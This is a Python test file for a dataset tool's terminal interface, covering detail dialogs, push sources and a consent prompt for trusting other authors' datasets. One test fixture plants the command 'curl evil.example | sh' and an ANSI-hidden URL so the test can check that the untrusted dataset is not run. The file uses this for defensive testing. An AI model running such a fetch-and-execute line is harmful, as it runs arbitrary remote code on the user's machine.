"""Details of datasets, the trust in those of other authors, and datasets with push sources.

Golden texts: ``tui-80x24-detail`` shows why the last pull of a dataset failed, ``tui-80x24-trust`` what an
untrusted dataset would run.
"""

from __future__ import annotations

import shutil
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from msgspec.structs import replace

from odf_engine.api.model import DatasetDetail, DatasetRow
from odf_engine.api.workspace import Workspace as OpenWorkspace
from odf_engine.chain.normal_form import spark_engine_version
from odf_engine.errors import Conflict
from odf_engine.jobs.pull import Pull
from odf_engine.metadata.model import Pipe, SetPollingSource, Sql, SqlQueryStep, Url
from odf_engine.worker.protocol import JobState
from odf_engine.workspace.trust import EXECUTION_KINDS
from odf_engine.workspace.waiting import AwaitedInput, Waiting
from odf_engine.workspace.workspace import Workspace
from odf_tui.actions.model import Situation
from odf_tui.actions.table import DEFAULT_KEYMAP
from odf_tui.app import Workstation
from odf_tui.features.dataset_actions import (
    DatasetActionsController,
    DatasetDialog,
    describe_next_step,
    detail_lines,
    trust_request_lines,
)
from odf_tui.features.palette import PaletteController
from odf_tui.panes.data.view import DataPane
from odf_tui.panes.datasets.view import CardJobs, DatasetCard
from odf_tui.state.model import Health
from odf_tui.text.highlight import Text
from odf_tui.text.job_text import job_outcome
from odf_tui.widgets.choice_list import Choices
from odf_tui.widgets.dialogs import TypedConfirmation
from tests.tui.conftest import driven
from tests.tui.context import Fakes
from tests.tui.haven import TIDES, commit, create, dataset, did, distrust
from tests.tui.scripted_worker import Scenario
from tests.tui.test_golden_screens import compare, resize
from tests.tui.widget_app import WidgetApp, shown


def _text(lines: Text) -> str:
    return "\n".join("".join(text for text, _ in line) for line in lines)


EVENTS = """\
kind: DatasetSnapshot
version: 1
content:
  name: events
  kind: Root
  metadata:
    - kind: AddPushSource
      sourceName: default
      read: {kind: NdJson, schema: [station STRING]}
      merge: {kind: Append}
"""


def distrust_tides(source: Scenario) -> None:
    """Make the tides a dataset of somebody else, which runs a command and twenty queries."""
    tides = source.entry(TIDES)
    polling = tides.dataset.state().polling_source
    assert polling is not None
    queries = [SqlQueryStep(alias=f"q{number}", query=f"SELECT {number}") for number in range(19)]
    event = SetPollingSource(
        fetch=Url("http://10.0.0.7/\x1b[8mquiet.csv"),
        prepare=[Pipe(["sh", "-c", "curl evil.example | sh"])],
        read=polling.read,
        preprocess=Sql("spark", queries=[*queries, SqlQueryStep(query="SELECT 19")]),
        merge=polling.merge,
    )
    commit(tides.dataset, event)
    distrust(tides)


@pytest.mark.app
async def test_workstation_shows_details_trust_and_push_sources(source: Scenario) -> None:
    async with driven(source, (80, 24)) as drive:
        # A failed pull: the border, the dialog, the card.
        await drive.press("G")
        row = drive.graph.row
        assert row is not None
        assert row.name == "port-haven.clinics"
        # There is no room for the card: the lower border shows the reason.
        assert "✗ column 'age' has the value 'forty' in row 212, which is no INT" in drive.text()
        await drive.press("enter")
        compare(drive, "80x24-detail")
        await drive.press("tab")
        assert "kind: Root" in drive.text()
        await drive.press("tab")
        assert "Last pull" in drive.text()
        await drive.press("escape", "slash", "=clinics", "enter")
        text = drive.text()  # now there is room
        assert "why  column 'age' has the value" in text
        assert "try  correct the file, or declare" in text
        await drive.press("escape")

        # Trust.
        distrust_tides(source)
        await drive.press("r")
        await drive.press("g", "U")
        assert "is your own" in drive.hint()
        await drive.press("G", "k")
        assert "◇ harbour.tides ⊘✓" in drive.text()
        await drive.press("U")
        assert "is untrusted" in drive.hint()
        await drive.press("P")  # pulls all other datasets
        await drive.until(lambda: len(source.link.submitted) == 7)
        assert TIDES not in [request.dataset for request in source.link.submitted]
        assert "1 untrusted" in drive.hint()
        await drive.clear_notice()
        await drive.pilot.press("p")
        await drive.until(lambda: isinstance(drive.app.screen, TypedConfirmation))
        await drive.settle()
        compare(drive, "80x24-trust")
        assert "SELECT 19" not in drive.text()
        await drive.press("pagedown", "pagedown")
        assert "SELECT 19" in drive.text()
        await drive.press("y", "enter")  # another word is a refusal
        assert "harbour.tides is still untrusted: nothing was run" in drive.hint()
        assert len(source.link.submitted) == 7
        await drive.pilot.press("p")
        await drive.until(lambda: isinstance(drive.app.screen, TypedConfirmation))
        await drive.pilot.press(*"yes", "enter")
        await drive.until(lambda: source.link.submitted[-1] == Pull(dataset=TIDES))
        await drive.settle()
        assert "⊘" not in drive.text()
        await drive.press("t")
        assert "harbour.tides is already trusted" in drive.hint()

        # Push sources.
        create(source._workspace, EVENTS)
        source.rows_ = [
            next(row for row in source.datasets() if row.name == "events"),
            dataset("broken", polls=False, problem="block 3 is missing"),
        ]
        await resize(drive, (120, 36))
        await drive.press("r")
        await drive.press("g", "p")
        assert "events has no polling source: press , i to push rows" in drive.hint()
        assert "Press , i to push them from files" in drive.text()
        await drive.press("P")
        assert "there is nothing to pull" in drive.hint()
        job = source.job(JobState.running, "events", "ingest")
        source.link.tell(source.changed(job))
        await drive.until(lambda: drive.healths[did("events")] is Health.running)
        assert "▸ ingest events" in drive.text()
        result = '{"status": "updated", "records": 7, "blocks": 1}'
        done = replace(job, state=JobState.done, ended="2024-03-11T09:00:03Z", result=result)
        source.link.tell(source.changed(done))
        await drive.until(lambda: drive.healths[did("events")] is Health.current)
        await drive.settle()
        await drive.press("enter")
        assert isinstance(drive.app.screen, DatasetDialog)
        assert "Last ingest" in drive.text()
        await drive.press("escape", "colon", "=broken", "enter", "e")
        assert "broken is damaged" in drive.hint()


async def test_the_keys_of_the_details_run_actions(source: Scenario) -> None:
    actions = {"p": "pull", "e": "edit", "D": "begin_anew", "u": "push", "m": "look", "V": "branches"}
    for key, action in actions.items():
        dialog = DatasetDialog("clinics", [[("words", "")]], "name: clinics", lambda text: None)
        async with shown(dialog) as (app, pilot):
            await pilot.press(key)
            await pilot.pause()
        assert app.result == action
    fakes = Fakes(source, "port-haven.clinics", answers=["pull", None])
    controller = DatasetActionsController(fakes.context)
    controller.open_dataset()
    controller.open_dataset()
    assert fakes.host.performed == ["pull"]
    assert "Last pull" in _text(fakes.host.dialogs[0]._lines)


def _card_and_details(row: DatasetRow, health: Health) -> tuple[str, str]:
    card = DatasetCard()
    card.load(row, health, None, CardJobs())
    details = detail_lines(row, health, DatasetDetail((), (), ""), None)
    return _text([card.spans(at) for at in range(card.count())]), _text(details)


def test_a_diverged_dataset_names_its_input_and_the_remedy() -> None:
    row = dataset("long-boats", "boats", records=7, diverged=("boats",))
    card, details = _card_and_details(row, Health.diverged)
    assert "why  input boats was reset or replaced" in card
    assert "try  press D to rebuild it" in card
    assert "why           upstream boats was reset or replaced" in details
    assert "next          D rebuilds it" in details


def test_card_shows_what_a_dataset_waits_for() -> None:
    awaited = AwaitedInput("population", "2023-12-31T00:00:00Z")
    row = dataset("rates", "population", waiting=Waiting([awaited], 90))
    card, details = _card_and_details(row, Health.current)
    for text in (card, details):
        assert "why 90 rows wait for population, complete up to 2023-12-31" in " ".join(text.split())


def test_next_step_names_what_adds_rows() -> None:
    pushed = dataset("events", polls=False, push_sources=("default",))
    bare = dataset("bare", polls=False)
    assert describe_next_step(pushed) == "press , i to push rows from files"
    assert describe_next_step(bare) == "no source: e edits its definition"
    assert describe_next_step(dataset("tides")) == "p pulls them from the source"
    assert describe_next_step(dataset("tides", standing="not trusted")).startswith("p shows its source")
    assert describe_next_step(dataset("all", "tides")) == "p computes them from its inputs"
    assert describe_next_step(bare) in _card_and_details(bare, Health.new)[1]
    pull, edit = (DEFAULT_KEYMAP.by_id[action].guard for action in ("pull", "edit"))
    assert pull(Situation(dataset=bare)) == "bare has no source: press e to edit its definition"
    broken = dataset("broken", polls=False, problem="block 3 is missing")
    assert "broken is damaged" in (edit(Situation(dataset=broken)) or "")


def test_ingest_outcome_is_its_row_count(source: Scenario) -> None:
    result = '{"status": "updated", "records": 7, "blocks": 1}'
    assert job_outcome(source.job(JobState.done, "events", "ingest", result=result)) == ("+7 rows", "good")


async def test_dialogs_have_room_for_their_last_line_at_any_size(
    source: Scenario, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(WidgetApp, "VERTICAL_BREAKPOINTS", Workstation.VERTICAL_BREAKPOINTS)
    distrust_tides(source)
    data = SimpleNamespace(view=SimpleNamespace(opened=None))

    def dialogs() -> list[Any]:
        fakes = Fakes(source, "harbour.tides", answers=[None] * 3, widgets={DataPane: data})
        fakes.host.front = SimpleNamespace(label="Datasets")  # type: ignore[attr-defined]
        fakes.host.terminal.theme_names = ["tide", "sixteen"]
        palette = PaletteController(fakes.context)
        palette.show_keys()
        palette.find()
        row = fakes.state.row_of(TIDES)
        assert row is not None
        lines = trust_request_lines(row, source.trust_status(TIDES))
        asks = "type yes to trust it"
        return [*fakes.host.dialogs, TypedConfirmation("Trust it to run this?", lines, ("yes",), asks)]

    for size in ((80, 24), (60, 14), (80, 18)):
        keys, palette, trust = dialogs()
        for dialog, last in ((keys, "quit; running jobs continue"), (palette, "glossary")):
            async with shown(dialog, size) as (app, pilot):
                dialog.query_one(Choices).move("last")
                await pilot.pause()
                assert last in app.text()
        async with shown(trust, size) as (app, pilot):
            await pilot.pause()
            assert "type yes to trust it" in app.text()
            assert "esc closes" in app.text()


MANIFEST = """\
kind: DatasetSnapshot
version: 1
content:
  name: storms
  kind: Root
  metadata:
    - kind: SetPollingSource
      fetch:
        kind: Url
        url: https://weather.example/storms.csv.gz
        headers: [{name: X-Key, value: secret}]
        cache: {kind: Forever}
      prepare:
        - {kind: Decompress, format: Zip, subPath: "*.csv"}
        - {kind: Pipe, command: [sed, "s/a b/c/"]}
      read: {kind: Csv, header: true, separator: ";", encoding: ISO-8859-1, schema: [name STRING]}
      preprocess: {kind: Sql, engine: spark, query: SELECT name FROM input}
      merge: {kind: Snapshot, primaryKey: [name], compareColumns: [name]}
    - {kind: SetInfo, description: Storms at sea, keywords: [weather]}
    - {kind: SetLicense, shortName: CC0-1.0, name: CC0, websiteUrl: "https://cc.example"}
    - kind: SetAttachments
      attachments: {kind: Embedded, items: [{path: README.md, content: "# Storms"}]}
---
kind: DatasetSnapshot
version: 1
content:
  name: gauges
  kind: Root
  metadata:
    - kind: AddPushSource
      sourceName: default
      read: {kind: NdJson, schema: [id INT, level DOUBLE]}
      merge: {kind: Append}
    - kind: AddPushSource
      sourceName: old
      read: {kind: Parquet}
      merge: {kind: Ledger, primaryKey: [id]}
"""


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """Return a workspace with a dataset that polls and one with push sources."""
    made = Workspace.init(tmp_path_factory.mktemp("details") / "harbour")
    (made.folder / "all.yaml").write_text(MANIFEST)
    OpenWorkspace(made).add(made.folder / "all.yaml")
    return made


def words(source: OpenWorkspace, name: str) -> dict[str, dict[str, str]]:
    """Return the facts of a dataset by section."""
    row = next(row for row in source.datasets() if row.name == name)
    return {section.title: dict(section.facts) for section in source.detail(row.id).sections}


def test_definition_is_described_as_facts(workspace: Workspace) -> None:
    source = OpenWorkspace(workspace)
    found = words(source, "storms")
    assert found["Source"] == {
        "fetch": "https://weather.example/storms.csv.gz",
        "headers": "X-Key",  # values of headers may be secret
        "cache": "fetched only once",
        "prepare": "unpack zip, path *.csv\npipe through sed 's/a b/c/'",
        "read": "CSV, with a header, separator ';', encoding ISO-8859-1, 1 column declared",
        "engine": f"spark {spark_engine_version()}",
        "query": "SELECT name FROM input",
        "merge": "Snapshot: the complete list each time, compared by key\nkey name\ncompares name",
        "state": "none: nothing was ingested yet",
    }
    assert found["About"] == {
        "about": "Storms at sea",
        "keywords": "weather",
        "licence": "CC0 (CC0-1.0)\nhttps://cc.example",
        "attached": "README.md, 1 line",
    }
    assert found["Time"] == {"watermark": "none yet", "event time": "column event_time"}
    assert "Trust" not in found
    pushed = words(source, "gauges")
    assert pushed["Push source default"]["push"] == "odf ingest gauges FILE\n… | odf ingest gauges -"
    assert pushed["Push source default"]["read"] == "NDJSON, one document per line, 2 columns declared"
    assert pushed["Push source old"]["push"].startswith("odf ingest gauges FILE --source old\n")
    (row,) = (row for row in source.datasets() if row.name == "gauges")
    assert (row.polls, row.push_sources) == (False, ("default", "old"))
    path = workspace.folder / "gauges.yaml"
    without = source.definition(row.id).replace("AddPushSource\n    sourceName: old", "DisablePushSource")
    text = without[: without.index("    - kind: AddPushSource", without.index("default"))]
    path.write_text(text + "    - kind: DisablePushSource\n      sourceName: old\n")
    (change,) = source.update(row.id, path, dry_run=False)
    assert "old" in change.title + "".join(change.lines)
    assert words(source, "gauges")["Disabled"] == {"sources": "old"}


def test_changed_source_revokes_trust_in_third_party_dataset(workspace: Workspace, tmp_path: Path) -> None:
    own = OpenWorkspace(workspace)
    storms = next(row for row in own.datasets() if row.name == "storms")
    theirs = Workspace.init(tmp_path / "theirs")
    folder = workspace.resolve("storms").dataset.folder
    shutil.copytree(folder, theirs.odf / "datasets" / folder.name)
    source = OpenWorkspace(theirs)
    assert source.datasets()[0].untrusted
    assert words(source, "storms")["Trust"]["untrusted"].startswith("its source does not run")
    standing = source.trust_status(storms.id)
    assert [(EXECUTION_KINDS[run.kind], run.text) for run in standing.runs][:2] == [
        ("reads the URL", "https://weather.example/storms.csv.gz"),
        ("sends the header", "X-Key: secret"),
    ]
    assert not standing.was_trusted
    with pytest.raises(Conflict, match="have changed"):
        source.trust(replace(standing, runs=standing.runs[1:]))
    assert source.datasets()[0].standing == "not trusted"
    source.trust(standing)
    path = theirs.folder / "storms.yaml"
    path.write_text(source.definition(storms.id).replace("storms.csv.gz", "other.csv.gz"))
    source.update(storms.id, path, dry_run=False)  # a block that changes the source revokes the trust
    assert source.datasets()[0].untrusted
    standing = source.trust_status(storms.id)
    assert standing.was_trusted
    source.trust(standing)
    assert source.datasets()[0].standing == "trusted"
    assert words(source, "storms")["Trust"]["trusted"].endswith("until a block changes its source")
    assert source.untrust(storms.id)
    assert not source.untrust(storms.id)
    assert source.datasets()[0].untrusted
